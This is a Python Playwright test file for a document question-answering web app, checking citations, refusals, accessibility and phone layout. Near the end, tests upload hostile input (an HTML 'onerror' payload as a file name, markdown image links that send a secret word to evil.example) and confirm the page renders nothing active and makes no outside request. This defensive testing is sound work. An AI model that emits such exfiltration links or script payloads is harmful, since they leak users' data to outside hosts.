"""Sources of answers on layer 2's page."""

from collections.abc import Callable, Iterator

import httpx2
import pytest
from playwright.sync_api import Page, expect

from tests.browser.axe import violations
from tests.browser.conftest import PHONE, screenshot, serve
from tests.browser.documents import document, provide_documents, upload
from tests.browser.files import catalogue, handbook, policy, text
from tests.browser.ollama import OllamaStub
from tests.browser.test_chat import answered, ask
from tests.browser.test_reach import FITS, contrast
from tests.browser.test_untrusted_text import ACTIVE, HOSTILE, no_external_request

QUESTION = "When is the dome closed?"
HOSTILE_NAME = "<img src=x onerror=alert(1)>.txt"
REFUSED = "Who painted the Mona Lisa?"
NEAR_MISS = "What is the salary of the director of the telescope in Lisbon?"


@pytest.fixture
def page(open_page: Callable[..., Page], layer2: str) -> Page:
    """Layer 2's page with three documents."""
    provide_documents(layer2, handbook(), policy(), catalogue())
    return open_page(layer2)


@pytest.fixture(scope="module")
def layer2_with_model(_ollama: OllamaStub) -> Iterator[str]:
    yield from serve(2, LLM_PROVIDER="ollama", OLLAMA_URL=_ollama.url)


def test_a_citation_opens_the_quote_in_its_context(page: Page) -> None:
    ask(page, QUESTION)
    answered(page)
    cite = page.get_by_role("article").last.get_by_role(
        "button", name="Source 1: staff-handbook.pdf, page 2", exact=True
    )
    cite.first.click()
    view = page.get_by_role("dialog", name="staff-handbook.pdf")
    expect(view.locator("mark")).to_contain_text("The dome is closed when the wind is stronger than 72 kilometres")
    expect(view.locator("mark")).to_be_in_viewport()
    expect(view).to_contain_text("nobody works alone under the dome")
    expect(view).to_contain_text("Page 2")
    expect(view).to_contain_text("The quote matches the document word for word.")
    screenshot(page, "layer2-citation.png")
    view.get_by_role("button", name="Close").click()
    expect(cite.first).to_be_focused()


def test_the_url_of_an_annotation_opens_the_document_at_the_quote(open_page: Callable[..., Page], layer2: str) -> None:
    provide_documents(layer2, handbook(), policy(), catalogue())
    body = {"messages": [{"role": "user", "content": QUESTION}]}
    answer = httpx2.post(f"{layer2}/v1/chat/completions", json=body, timeout=60).json()
    url = answer["choices"][0]["message"]["annotations"][0]["url_citation"]["url"]
    page = open_page(url)
    view = page.get_by_role("dialog", name="staff-handbook.pdf")
    expect(view.locator("mark")).to_contain_text("The dome is closed when the wind is stronger than 72 kilometres")
    expect(view.locator("mark")).to_be_in_viewport()
    page.evaluate("location.hash = '#/documents/00000000-0000-4000-8000-000000000000'")
    expect(page.get_by_role("dialog", name="Document")).to_contain_text("has been deleted")


def test_buttons_step_through_the_sources(page: Page) -> None:
    ask(page, "What does the handbook say about the dome, the night shift and the mirror?")
    answered(page)
    sources = page.get_by_role("list", name="Sources").get_by_role("button")
    number = sources.count()
    assert number > 1
    sources.first.click()
    view = page.get_by_role("dialog")
    expect(view.get_by_role("button", name="Previous source")).to_be_disabled()
    for at in range(2, number + 1):
        view.get_by_role("button", name="Next source").click()
        expect(view).to_contain_text(f"{at} of {number}")
    expect(view.get_by_role("button", name="Next source")).to_be_disabled()
    page.keyboard.press("Escape")
    expect(sources.first).to_be_focused()


def test_after_a_reload_the_citations_still_open(page: Page) -> None:
    ask(page, QUESTION)
    answered(page)
    page.reload()
    expect(document(page, "staff-handbook.pdf")).to_be_visible()
    page.get_by_role("article").last.locator(".cite").first.click()
    expect(page.locator("mark")).to_contain_text("The dome is closed")


def test_the_source_of_a_deleted_document_shows_no_quote(page: Page) -> None:
    ask(page, QUESTION)
    answered(page)
    document(page, "staff-handbook.pdf").hover()
    page.get_by_role("button", name="Delete staff-handbook.pdf").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    page.get_by_role("article").last.locator(".cite").first.click()
    expect(page.get_by_role("dialog")).to_contain_text("This document has been deleted")
    assert page.locator("mark").count() == 0


def test_offsets_count_code_points(page: Page) -> None:
    upload(page, text("emoji.txt", "🔭🌌✨ " * 300 + "\n\nThe comet 𝔎𝔬𝔪𝔢𝔱 returns in 2061. " + "🌠" * 30))
    ask(page, "When does the comet return?")
    answered(page)
    page.get_by_role("article").last.get_by_role("button", name="Source 1: emoji.txt", exact=True).first.click()
    expect(page.locator("mark")).to_contain_text("The comet 𝔎𝔬𝔪𝔢𝔱 returns in 2061.")
    expect(page.get_by_role("dialog")).to_contain_text("word for word")


def test_a_refusal_gives_advice(page: Page) -> None:
    ask(page, REFUSED)
    answered(page)
    answer = page.get_by_role("article").last
    expect(answer).to_contain_text("I found nothing in the documents that answers this.")
    expect(answer).to_contain_text("Try other words")
    expect(answer.get_by_role("button", name="Add documents")).to_be_visible()
    assert answer.get_by_role("button", name="Answer without documents").count() == 0
    assert page.locator(".cite").count() == 0


def test_a_refusal_shows_the_closest_passages(page: Page) -> None:
    ask(page, NEAR_MISS)
    answered(page)
    answer = page.get_by_role("article").last
    expect(answer).to_contain_text("I found nothing in the documents that answers this.")
    closest = answer.get_by_role("list", name="Closest passages").get_by_role("button")
    expect(closest.first).to_contain_text("staff-handbook.pdf")
    assert answer.locator(".cite").count() == 0
    assert violations(page) == []
    page.keyboard.press("Escape")
    page.keyboard.type("1")
    expect(page.get_by_role("dialog", name="staff-handbook.pdf").locator("mark").first).to_be_visible()
    expect(page.get_by_role("dialog")).to_contain_text("The quote matches the document word for word.")
    page.reload()
    expect(page.get_by_role("list", name="Closest passages")).to_be_visible()


def test_everything_by_keyboard(page: Page) -> None:
    page.get_by_label("Your question").focus()
    page.keyboard.type(QUESTION)
    page.keyboard.press("Enter")
    answered(page)
    page.get_by_role("article").last.locator(".cite").first.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="staff-handbook.pdf")).to_be_focused()
    page.keyboard.press("Tab")
    expect(page.get_by_role("dialog").get_by_role("button", name="Close")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.get_by_role("article").last.locator(".cite").first).to_be_focused()
    document(page, "instruments.html").get_by_role("button").first.focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Cancel")).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(document(page, "instruments.html")).to_have_count(0)
    expect(page.locator(".documents button:focus")).to_be_visible()  # of the next document


def test_appearance(page: Page) -> None:
    ask(page, "Who founded the observatory, and when?")
    answered(page)
    ask(page, QUESTION)
    answered(page)
    screenshot(page, "layer2.png")


def test_dark_colours(page: Page, open_page: Callable[..., Page], layer2: str) -> None:
    dark = open_page(layer2, color_scheme="dark", reduced_motion="reduce")
    ask(dark, QUESTION)
    answered(dark)
    dark.locator(".cite").first.click()
    expect(dark.locator("mark")).to_be_in_viewport()
    for selector in (
        "mark",
        ".stored-text",
        ".verdict",
        ".cite",
        ".sources .quote",
        ".documents .name",
        ".documents small",
    ):
        assert contrast(dark, selector) >= 4.5, selector
    screenshot(dark, "layer2-dark.png")


def test_on_a_phone(page: Page, open_page: Callable[..., Page], layer2: str) -> None:
    phone = open_page(layer2, PHONE, has_touch=True, is_mobile=True, device_scale_factor=2)
    upload(phone, text("a-name-that-is-far-too-long-for-a-phone-of-this-width.txt", "Short text."))
    expect(phone.get_by_label("Uploads").get_by_role("listitem")).to_have_count(0)
    ask(phone, QUESTION)
    answered(phone)
    assert phone.evaluate(FITS)
    screenshot(phone, "layer2-phone.png")
    phone.locator(".cite").first.tap()
    expect(phone.locator("mark")).to_be_in_viewport()
    assert phone.evaluate(FITS)
    phone.get_by_role("button", name="Close", exact=True).tap()
    expect(phone.locator(".cite").first).to_be_focused()
    phone.get_by_role("button", name="Menu", exact=True).tap()
    expect(document(phone, "staff-handbook.pdf")).to_be_in_viewport()
    expect(phone.get_by_role("button", name="Delete staff-handbook.pdf")).to_be_in_viewport()


@pytest.fixture
def written(open_page: Callable[..., Page], layer2_with_model: str, ollama: OllamaStub) -> Page:
    """Layer 2's page with a language model and the handbook."""
    provide_documents(layer2_with_model, handbook())
    return open_page(layer2_with_model)


def test_a_written_answer_cites_while_it_streams(written: Page, ollama: OllamaStub) -> None:
    ollama.pieces = ["It closes in strong wind [1].\n\n", "More to come."]
    ollama.held.set()
    ask(written, QUESTION)
    expect(written.locator("[aria-busy] .cite")).to_have_text("1")
    ollama.held.clear()
    answered(written)
    written.locator(".cite").first.click()
    expect(written.locator("mark")).to_contain_text("The dome is closed")


def test_invented_markers_are_named_and_code_is_left_alone(written: Page, ollama: OllamaStub) -> None:
    ollama.say("The dome is closed when the wind is stronger than 72 kilometres an hour [1] [9], see `list[1]`.")
    ask(written, QUESTION)
    answered(written)
    answer = written.get_by_role("article").last
    expect(answer.locator(".cite")).to_have_count(1)
    expect(answer.locator("code")).to_have_text("list[1]")
    expect(answer).to_contain_text("The model cited 1 source that does not exist")


def test_the_model_can_answer_without_sources_and_the_answer_is_marked(written: Page, ollama: OllamaStub) -> None:
    ollama.say("Leonardo da Vinci.")
    ask(written, REFUSED)
    answered(written)
    written.get_by_role("button", name="Answer without documents").click()
    expect(written.get_by_role("article").last).to_contain_text("Leonardo da Vinci.")
    answered(written)
    expect(written.get_by_role("article").last).to_contain_text("This answer cites no document.")
    ask(written, REFUSED + " Really?")
    answered(written)
    expect(written.get_by_role("article").last).to_contain_text("I found nothing in the documents")


def test_a_hostile_document_and_model_leak_nothing(written: Page, layer2_with_model: str, ollama: OllamaStub) -> None:
    ollama.say(f"The word is xylograph [1].\n\n{HOSTILE}")
    with no_external_request(written):
        upload(written, text(HOSTILE_NAME, f"The secret word is xylograph.\n\n{HOSTILE}"))
        ask(written, "What is the secret word?")
        answered(written)
        written.locator(".cite").first.click()
        expect(written.locator("mark")).to_be_visible()
        expect(written.locator("#drawer")).to_contain_text("![tracking pixel](http://evil.example/pixel.png?q=secret)")
    assert active(written) == 0
    assert httpx2.get(layer2_with_model).headers["content-security-policy"].startswith("default-src 'none'")


def test_a_hostile_document_as_the_answer_itself_leaks_nothing(page: Page) -> None:
    word = "The secret word is ![xylograph](http://evil.example/pixel.png?q=secret) <img src=http://evil.example/x>."
    with no_external_request(page):
        upload(page, text(HOSTILE_NAME, f"{word}\n\n{HOSTILE}"))
        ask(page, "What is the secret word?")
        answered(page)
        expect(page.get_by_role("article").last).to_contain_text("xylograph (http://evil.example/pixel.png?q=secret)")
        document(page, HOSTILE_NAME).get_by_role("button").first.click()
        expect(page.get_by_role("dialog", name=HOSTILE_NAME)).to_contain_text("a kind offer")
    assert active(page) == 0


def active(page: Page) -> int:
    """The number of elements that could load, send or run something, among those built from answers and documents."""
    containers = ("article .body", "article .sources", "#drawer .text-part", "#sidebar .documents")
    return sum(page.locator(container).locator(ACTIVE).count() for container in containers)
